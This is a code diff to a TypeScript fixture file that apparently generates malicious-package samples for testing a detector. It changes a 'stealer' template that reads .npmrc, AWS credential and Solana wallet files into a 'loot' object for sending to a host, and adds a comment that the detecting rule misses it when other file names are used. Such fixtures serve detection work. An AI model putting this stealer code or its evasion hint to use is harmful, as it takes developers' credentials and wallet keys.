@@ -50,13 +50,15 @@ if os.path.exists(own):
         sys.stdout.flush()
 `;
 
-/** Sends what lies in a file of secrets: a rule sees it by itself. */
-export const stealer = (host: string): string => String.raw`
+const SECRETS = ['.npmrc', '.aws/credentials', '.config/solana/id.json'];
+
+/** Sends what lies in files of secrets, which a rule sees by itself; with other names of files none does. */
+export const stealer = (host: string, places: readonly string[] = SECRETS): string => String.raw`
 const fs = require('fs');
 const os = require('os');
 const path = require('path');
 const https = require('https');
-const places = ['.npmrc', '.aws/credentials', '.config/solana/id.json'];
+const places = ${JSON.stringify(places)};
 const loot = {};
 for (const place of places) {
   try {
@@ -134,9 +136,6 @@ def get_cmdclass():
 
     return {"sdist": cmd_sdist}
 `;
-
-/** A client that honest packages vendor: it reads a file of credentials by design and sends what it holds. */
-export const vendoredClient = stealer('api.vendored-client.invalid');
 
 /** What a bundler puts in front of every bundle. */
 export const bundleRuntime = String.raw`
